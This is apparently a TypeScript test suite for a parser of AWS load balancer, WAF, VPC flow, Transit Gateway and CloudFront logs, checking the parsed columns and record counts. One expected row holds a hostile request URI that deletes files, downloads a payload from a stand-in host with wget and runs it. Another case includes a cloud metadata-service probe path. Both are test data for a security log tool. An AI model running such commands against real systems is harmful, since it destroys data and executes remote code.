import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import type { Account } from '../../lib/load/account.js';
import type { OpenOptions } from '../../lib/load/open-options.js';
import { openTraffic } from '../../lib/load/open-traffic.js';

const file = (name: string) => path.join(__dirname, name);
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

/** A file, what should be read of it, and how its rows are accounted for. */
interface Case {
  readonly says: string;
  readonly input: string;
  readonly options?: OpenOptions;
  readonly columns: string;
  readonly rows: readonly (readonly unknown[])[];
  readonly account: Partial<Account>;
}

const CASES: readonly Case[] = [
  {
    says: 'ALB: hosts and clients may be IPv6 addresses, with or without brackets',
    input: '01-alb-ipv6-literal-host.log',
    columns: 'src_ip, src_port, host, dst_port, uri, response_code',
    rows: [
      ['203.0.113.9', 40112, 'shop.example.com', 443, '/', 200],
      ['203.0.113.9', 40112, '[2001:db8::1]', 443, '/admin', 400],
      ['2001:db8:1::7', 51820, '[::ffff:a9fe:a9fe]', 443, '/latest/meta-data/', 400],
      ['2001:db8:1::7', 51820, 'shop.example.com', 443, '/', 200],
    ],
    account: { format: 'aws-alb', records: 4, rejects: 0 },
  },
  {
    says: 'ALB: a uri with spaces is whole, and the reason of its classification is kept',
    input: '02-alb-space-in-uri.log',
    columns: 'uri, detection_types, host',
    rows: [
      ['/', null, 'shop.example.com'],
      ['/shell?cd+/tmp;rm+-rf+*;wget+ evil.example/x;sh+/tmp/x', 'SpaceInUri', '198.51.100.5'],
    ],
    account: { records: 2, rejects: 0 },
  },
  {
    says: 'ALB: what is no request has no method and no uri, and is a record',
    input: '03-alb-request-malformed.log',
    columns: 'method, uri, response_code, dst_port',
    rows: [
      ['GET', '/', 200, 443],
      [null, null, 400, 80],
      [null, null, 460, null],
    ],
    account: { records: 3, rejects: 0 },
  },
  {
    says: 'ALB: fields that were added to the log over time change nothing',
    input: '04-alb-fields-added-over-time.log',
    columns: 'distinct src_ip, dst_ip, uri, response_code, bytes_in, bytes_out, action, user_agent',
    rows: [['203.0.113.9', '10.0.1.20', '/', 200, 310n, 5120n, 'forward', FIREFOX]],
    account: { records: 6, rejects: 0 },
  },
  {
    says: 'ALB: quotes in a user agent do not cut it, and all types of requests are read',
    input: '05-alb-quoted-user-agent.log',
    columns: 'protocol, uri, user_agent',
    rows: [
      ['HTTPS', '/', FIREFOX],
      ['HTTPS', '/', '\\"research bot\\" v1'],
      ['H2', '/q?a=\\x22', 'x\\x22 y'],
      ['WSS', '/live', FIREFOX],
      ['GRPCS', '/pkg.Svc/Call', FIREFOX],
    ],
    account: { records: 5, rejects: 0 },
  },
  {
    says: 'NLB TLS and ALB connection logs are read, also from one file',
    input: '07-nlb-tls-and-alb-connection.log',
    columns: 'source_meta, src_ip, src_port, dst_port, bytes_in, bytes_out, creation_time::varchar, action',
    rows: [
      ['AWS_NLB', '203.0.113.9', 2817, 443, 98n, 246n, '2024-04-25 23:10:01', null],
      ['AWS_NLB', '203.0.113.10', 2818, 443, 0n, 0n, '2024-04-25 23:10:07', null],
      [
        ...['AWS_ALB_connection', '203.0.113.9', 36280, 443, null, null],
        ...['2024-04-25 23:10:15.514108', 'Failed:ClientCertUntrusted'],
      ],
    ],
    account: { format: 'aws-nlb', records: 3, rejects: 0 },
  },
  {
    says: 'WAF: rules that only counted a request are named, and are no blocks',
    input: '08-waf-excluded-and-overridden.jsonl',
    columns: 'rule_names, rule_action, action',
    rows: [
      ['SQLi_QUERYARGUMENTS', 'COUNT', 'ALLOW'],
      ['common, awswaf:managed:aws:core-rule-set:NoUserAgent_Header', 'COUNT', 'ALLOW'],
      [null, null, 'ALLOW'],
    ],
    account: { records: 3, rejects: 0 },
  },
  {
    says: 'WAF: CAPTCHA, challenges, rate rules, unknown countries and requests without headers are read',
    input: '09-waf-captcha-rate-no-country.jsonl',
    columns: 'src_ip, response_code, action, rule_names, rule_action, host',
    rows: [
      ['203.0.113.9', 405, 'CAPTCHA', 'bots', 'CAPTCHA', 'shop.example.com'],
      ['2001:db8::9', 202, 'CHALLENGE', 'bots', 'CHALLENGE', 'shop.example.com'],
      ['203.0.113.9', null, 'BLOCK', 'rate-300', 'BLOCK', null],
      ['203.0.113.9', null, 'BLOCK', 'size', 'BLOCK', null],
    ],
    account: { records: 4, rejects: 0, unknownCountries: 2 },
  },
  {
    says: 'VPC flow: a custom format without a header is read in the given order',
    input: '13-vpc-custom-order-no-header.log',
    options: {
      fields:
        'account-id action az-id bytes dstaddr dstport end flow-direction instance-id interface-id log-status pkt-srcaddr protocol packets pkt-dstaddr pkt-src-aws-service pkt-dst-aws-service x1 x2 region srcaddr srcport start sublocation-id sublocation-type subnet-id tcp-flags traffic-path x3 version vpc-id',
    },
    columns: 'src_ip, src_port, dst_ip, dst_port, bytes_in, packets, tcp_flags',
    rows: [
      ['203.0.113.9', 51000, '10.0.1.20', 443, 8900n, 12n, 2],
      ['203.0.113.10', 51001, '10.0.1.20', 443, 120n, 13n, 2],
      ['203.0.113.11', 51002, '10.0.1.20', 443, 4400n, 14n, 2],
    ],
    account: { records: 3, rejects: 0 },
  },
  {
    says: 'VPC flow: rows without data are counted, ICMP has ports 0',
    input: '14-vpc-custom-skipdata.log',
    columns: 'src_ip, protocol, src_port, dst_port',
    rows: [
      ['203.0.113.9', 'TCP', 51000, 443],
      ['203.0.113.10', 'ICMP', 0, 0],
    ],
    account: { records: 2, rejects: 0, skipped: { header: 1, NODATA: 1, SKIPDATA: 1 } },
  },
  {
    says: 'VPC flow: the client is who opened the connection, whichever way the packet went at the interface',
    input: '15-vpc-egress-client.log',
    columns: 'src_ip, src_port, dst_ip, dst_port, bytes_in, bytes_out',
    rows: [
      ['10.0.1.20', 51234, '198.51.100.7', 443, 1900n, 88000n],
      ['203.0.113.9', 52000, '10.0.1.20', 443, 1200n, 64000n],
    ],
    account: { records: 2, rejects: 0, mergedHalves: 2 },
  },
  {
    says: 'Transit Gateway flow logs are read and named',
    input: '17-tgw-flow-log.log',
    columns: 'src_ip, dst_ip, dst_port, bytes_in, action, source_meta',
    rows: [
      ['10.1.0.5', '10.2.0.9', 443, 6842n, null, 'AWS_TGW_Flow'],
      ['2001:db8::5', '2001:db8:2::9', 22, 8947n, null, 'AWS_TGW_Flow'],
    ],
    account: { format: 'aws-tgw-flow', records: 2, rejects: 0 },
  },
  {
    says: 'CloudFront: the names in the header may have tabs between them, status 000 is kept',
    input: '21-cloudfront-header-tabs.log',
    columns: 'src_ip, response_code, user_agent',
    rows: [
      ['203.0.113.9', 200, 'Mozilla/5.0 (X11; Linux x86_64)'],
      ['2001:db8::9', 0, 'Mozilla/5.0 (X11; Linux x86_64)'],
    ],
    account: { records: 2, rejects: 0 },
  },
  {
    says: 'CloudFront: without a header the fields are those documented',
    input: '23-cloudfront-no-header.log',
    columns: 'src_ip, response_code, uri, src_port',
    rows: [
      ['203.0.113.9', 200, '/a', 51754],
      ['203.0.113.9', 400, '/testseb?query_param=42', 51754],
      ['2001:db8::9', 200, '/a', 51754],
    ],
    account: { format: 'aws-cloudfront', records: 3, rejects: 0 },
  },
  {
    says: 'CloudFront: standard logs of version 2 are read as JSON, with the country of the client',
    input: '25-cloudfront-v2-json.jsonl',
    columns: 'src_ip, src_ip_country_code, end_time::varchar',
    rows: [
      ['203.0.113.9', 'DE', '2024-04-25 23:10:00'],
      ['203.0.113.10', 'DE', '2024-04-25 23:10:01'],
      ['203.0.113.11', 'DE', '2024-04-25 23:10:02'],
    ],
    account: { format: 'aws-cloudfront', records: 3, rejects: 0 },
  },
  {
    says: "VPC flow: a CSV with the columns of Athena's table is read as the log",
    input: '52-csv-hive-athena-names.csv',
    columns: 'src_ip, dst_port, bytes_in, packets, creation_time::varchar',
    rows: [9, 10, 11].map((i) => [`203.0.113.${i}`, 443, 8900n, 12n, '2024-04-25 23:09:00']),
    account: { format: 'aws-vpc-flow', records: 3, rejects: 0 },
  },
  {
    says: 'VPC flow: Parquet is read as AWS writes it',
    input: '58-vpc-flow-parquet.parquet',
    columns: 'src_ip, src_port, dst_port, protocol, bytes_in',
    rows: [9, 10, 11, 12].map((i) => [`203.0.113.${i}`, 50991 + i, 443, 'TCP', 8900n]),
    account: { format: 'aws-vpc-flow', records: 4, rejects: 0 },
  },
];

for (const { says, input, options, columns, rows, account } of CASES)
  test(says, async () => {
    const traffic = await openTraffic(file(input), options);
    const order = columns.startsWith('distinct') ? '' : 'order by row_id';
    const found = await traffic.engine.query(`select ${columns} from traffic ${order}`);
    assert.deepEqual(
      found.map((row) => Object.values(row)),
      rows,
    );
    const seen: Record<string, unknown> = { ...traffic.accounts[0] };
    assert.deepEqual(Object.fromEntries(Object.keys(account).map((key) => [key, seen[key]])), account);
  });

test('VPC flow: of a custom format without a header one sentence says how to give the order', async () => {
  await assert.rejects(
    openTraffic(file('13-vpc-custom-order-no-header.log')),
    /13-vpc-custom-order-no-header\.log: looks like a VPC flow log of a custom format without its header line \(31 values a line\).*--fields 'version srcaddr dstaddr .*'\.$/,
  );
});
